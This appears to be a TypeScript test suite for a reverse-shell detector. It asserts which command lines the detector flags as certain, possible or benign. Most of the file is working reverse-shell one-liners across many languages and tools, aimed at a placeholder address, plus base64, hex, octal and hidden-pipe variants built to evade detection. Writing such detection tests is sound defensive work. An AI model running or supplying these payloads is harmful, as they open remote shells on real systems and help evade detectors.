import { strict as assert } from 'node:assert';
import { reverseShellIn } from '../../../shared/detection/reverse-shell.ts';

const CERTAIN = [
  'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
  'sh -c 0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196',
  'bash -c exec 5<>/dev/tcp/evil.example.com/80;cat <&5 | while read line; do $line 2>&5 >&5; done',
  'sh -i >& /dev/udp/203.0.113.9/53 0>&1',
  "b''ash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  'nc -e /bin/sh 203.0.113.9 4444',
  'nc 203.0.113.9 4444 -e /bin/bash',
  'busybox nc 203.0.113.9 4444 -e sh',
  'ncat --sh-exec /bin/bash 203.0.113.9 4444',
  'nc -lvnpe /bin/sh',
  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f',
  'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s',
  'telnet 203.0.113.9 80 | /bin/sh | telnet 203.0.113.9 81',
  `C='curl -Ns telnet://203.0.113.9:4444'; $C </dev/null 2>&1 | sh 2>&1 | $C >/dev/null`,
  "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr",
  'socat exec:/bin/sh tcp-connect:203.0.113.9:4444',
  'python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
  'perl -e use Socket;connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");',
  'php -r $s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
  'ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)',
  'node -e require("child_process").exec("nc x");var c=new net.Socket();c.connect(4444,"203.0.113.9");sh=spawn("/bin/sh",[])',
  'awk \'BEGIN{s="/inet/tcp/0/203.0.113.9/4444";while(1){s|&getline c;while((c|&getline)>0)print|&s}}\'',
  'sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d | bash',
  'grep x $(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)',
];
const BASE64 = (text: string, encoding: 'utf8' | 'latin1' | 'utf16le' = 'utf8'): string =>
  Buffer.from(text, encoding).toString('base64');
const PAYLOAD = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
const OF_BOOKS = [
  'bash -c bash -i &>/dev/tcp/203.0.113.9/4444 <&1',
  'bash -c exec bash -i &>/dev/tcp/203.0.113.9/4444 <&1',
  'bash -c bash </dev/tcp/203.0.113.9/4444',
  'bash -c bash -s 0</dev/tcp/203.0.113.9/4444',
  'bash -c sh</dev/tcp/203.0.113.9/4444',
  'bash -c /bin/bash <> /dev/tcp/203.0.113.9/4444 >&0',
  'bash -c bash < /dev/tcp/203.0.113.9/4444 > /dev/tcp/203.0.113.9/4445',
  'bash -c source /dev/tcp/203.0.113.9/4444',
  'bash -c ls; . /dev/tcp/203.0.113.9/4444',
  'bash -c eval "$(cat </dev/tcp/203.0.113.9/4444)"',
  'bash -c bash -c "$(cat < /dev/tcp/203.0.113.9/4444)"',
  'bash -c bash <(cat </dev/tcp/203.0.113.9/4444)',
  'nc 203.0.113.9 4444 -e/bin/sh',
  'nc 203.0.113.9 4444 -vesh',
  'ncat -c/bin/bash 203.0.113.9 4444',
  'sh -c openssl s_client -quiet -connect 203.0.113.9:44|/bin/sh|openssl s_client -quiet -connect 203.0.113.9:45',
  'perl -MIO -e $p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.9:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
  'perl -MSocket -MIO -e \'$c=IO::Socket::INET->new("203.0.113.9:4444");while(<$c>){system $_}\'',
  `sh -c echo ${BASE64(`${PAYLOAD} # \u00e9`)} | base64 -d | bash`,
  `sh -c echo ${BASE64(`${PAYLOAD} # \u00e9\u00ff`, 'latin1')} | base64 -d | bash`,
  `sh -c echo ${`${'a'.repeat(16)} `.repeat(8)}>/dev/null; echo ${BASE64(PAYLOAD)}|base64 -d|bash`,
  `sh -c echo "${BASE64(PAYLOAD).slice(0, 20)}""${BASE64(PAYLOAD).slice(20)}"|base64 -d|bash`,
  `pwsh -enc ${BASE64('$c=New-Object Net.Sockets.TCPClient("203.0.113.9",4444);iex $c.GetStream()', 'utf16le')}`,
];
const HEX = (text: string): string => Buffer.from(text).toString('hex');
const ESCAPED = [...PAYLOAD].map((letter) => `\\x${HEX(letter)}`).join('');
const OCTAL = [...PAYLOAD].map((letter) => `\\${letter.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
const SPELLED = [
  `bash -c $'${ESCAPED}'`,
  `bash -c "$(printf '${ESCAPED}')"`,
  `bash -c printf '${OCTAL}' | bash`,
  `sh -c echo ${HEX(PAYLOAD)} | xxd -r -p | bash`,
  `python3 -c __import__("os").system(bytes.fromhex("${HEX(PAYLOAD)}").decode())`,
  `perl -e 'system(pack("H*","${HEX(PAYLOAD)}"))'`,
  `sh -c echo '${BASE64(`${'# '.repeat(30)}\n${PAYLOAD}`)
    .match(/.{1,76}/g)
    ?.join('\n')}' | base64 -d | bash`,
  `bash -c bash -i >& /dev/\${X:-tcp}/203.0.113.9/4444 0>&1`,
  'bash -c bash -i >& /dev/$(echo tcp)/203.0.113.9/4444 0>&1',
  'bash -c bash -i >& /dev/$(printf "tcp")/203.0.113.9/4444 0>&1',
];
const OTHER_PROGRAMS = [
  'python3 -c import socket,os;s=socket.create_connection(("203.0.113.9",4444));os.popen(s.recv(999).decode())',
  'python3 -c import socket,subprocess as p;s=socket.create_connection(("203.0.113.9",4444));p.Popen(["ba"+"sh"],stdin=s.fileno())',
  'ksh -c ksh >/dev/tcp/203.0.113.9/4444 <&1 2>&1',
  'sh -c nc 203.0.113.9 4444 | sh',
  'sh -c nc 203.0.113.9 4444 | /bin/bash -s >/dev/null 2>&1 &',
  'sh -c openssl s_client -quiet -connect 203.0.113.9:4444 2>/dev/null | sh',
  'nc -e python3 203.0.113.9 4444',
  'socat SOCKS4A:203.0.113.9:h:4444 EXEC:bash',
  'socat VSOCK-CONNECT:2:4444 EXEC:bash',
  `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:4444");while(defined($l=<$s>)){print $s \`$l\`}'`,
  `ruby -rsocket -e 'c=Socket.tcp("203.0.113.9",4444);while l=c.gets;c.print \`#{l}\`;end'`,
  'php -r \'$sock=fsockopen("203.0.113.9",4444);`sh <&3 >&3 2>&3`;\'',
  `php -r '$s=stream_socket_client("tcp://203.0.113.9:4444");proc_open("sh",[$s,$s,$s],$p);'`,
  `node -e 'const s=require("node:net").createConnection(4444,"203.0.113.9");s.pipe(require("node:child_process").spawn("/bin/sh").stdin)'`,
  `node -e 'require("net").connect(4444,"203.0.113.9",function(){this.on("data",d=>this.write(require("child_process").execSync(""+d)))})'`,
  "sh -c echo 'set s [socket 203.0.113.9 4444];while 42 {gets $s c;eval exec $c}' | tclsh",
  `sh -c echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","203.0.113.9:4444");x:=exec.Command("sh");x.Stdin=c;x.Run()}' > t.go; go run t.go`,
];
const HIDDEN = [
  'bash -c ls|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'bash -c ls\t|\tbash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'bash -c ls > >(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)',
  'bash -c ls "`bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`"',
  'bash -c grep x /etc/hosts|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'bash -c grep x|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'sh -c stat f|nc 203.0.113.9 4444 -e /bin/sh',
  'sh -c ps|nc 203.0.113.9 4444 -e sh',
  'sudo -u root bash -c "ls|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
  'sh -c bash -c "ls; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
];
const UNCERTAIN = [
  'sh -c timeout 1 bash -c "</dev/tcp/db/5432"',
  'bash -c cat < /dev/null > /dev/tcp/db/5432',
  'bash -c until </dev/tcp/db/5432; do sleep 1; done; exec bash -ic run',
  'bash -c ./wait.sh </dev/tcp/db/5432',
  'bash -c echo bash </etc/hosts >/dev/tcp/db/5432',
  'bash -c exec 3<>/dev/tcp/db/80 && echo -e "GET / HTTP/1.1" >&3 && cat <&3',
  "bash -c '</dev/tcp/db/5432'",
  'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
];
const NONE = [
  'bash',
  'bash -i',
  'sh -c </dev/tcp/127.0.0.1/8080',
  'sh -c exec 3<>/dev/tcp/localhost/80; echo -e "GET / HTTP/1.1" >&3; cat <&3',
  'nc -z db 5432',
  'nc -zv -w 1 db 5432',
  'sh -c nc -l -p 8080 | tee /tmp/out',
  'socat - UNIX-CONNECT:/var/run/haproxy.sock',
  'socat TCP-LISTEN:8080,fork TCP:db:5432',
  "grep -r 'nc -e /bin/sh' /",
  'mkfifo /tmp/pipe',
  'python3 manage.py shell',
  'python3 -c import socket; print(socket.gethostname())',
  'curl -s http://localhost:8080/healthz',
  'openssl s_client -connect db:5432',
  'perl -e print "hello"',
  'php artisan queue:restart',
  'sh -c grep -rE "nc -e /bin/sh|bash -i" /',
  'grep -rE bash -i >& /dev/tcp/|nc -e /bin/sh /var/log',
  'sh -c ps aux|grep "nc -e /bin/sh"',
  'sh -c echo /dev/tcp',
  'which nc',
  'nc -w5 db 5432',
  'nc -zve db 5432',
  'openssl s_client -connect db:5432 | sh -c cat',
  'perl -MIO::Socket -e print "hello"',
  'bash -c bash </etc/hosts',
  'bash -c source /dev/stdin',
  'sh -c nc db 5432 | shasum',
  'python3 -c import socket,subprocess;socket.create_connection(("db",5432));subprocess.run(["app","serve"])',
  'sh -c nc -l -p 8080 | sh -c "cat > /tmp/out"',
  'sh -c nc db 5432 | sh /opt/parse.sh',
  `node -e 'require("child_process").exec("git rev-parse HEAD"); client.connect()'`,
  `php -r '$s=fsockopen("db",5432); echo $s ? 1 : 0;'`,
  `perl -MIO::Socket -e '$s=IO::Socket::INET->new("db:5432"); while(<$s>){print}'`,
  "sh -c grep -P '\\x7c' /etc/hosts",
  `cat ${BASE64('a document about nothing in particular')}`,
  `cat /app/${'a'.repeat(64)}`,
];

describe('a reverse shell in a command line', () => {
  for (const line of CERTAIN) {
    it(`is certain: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
  }
  for (const line of OF_BOOKS) {
    it(`is certain as textbooks write it: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, true));
  }
  for (const line of SPELLED) {
    it(`is certain in another spelling: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
  }
  for (const line of OTHER_PROGRAMS) {
    it(`is certain by another program: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
  }
  for (const line of HIDDEN) {
    it(`is certain behind a command that only reads: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, true));
  }
  for (const line of UNCERTAIN) {
    it(`is possible: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, false));
  }
  for (const line of NONE) {
    it(`is not found: ${line}`, () => assert.equal(reverseShellIn(line), undefined));
  }
});
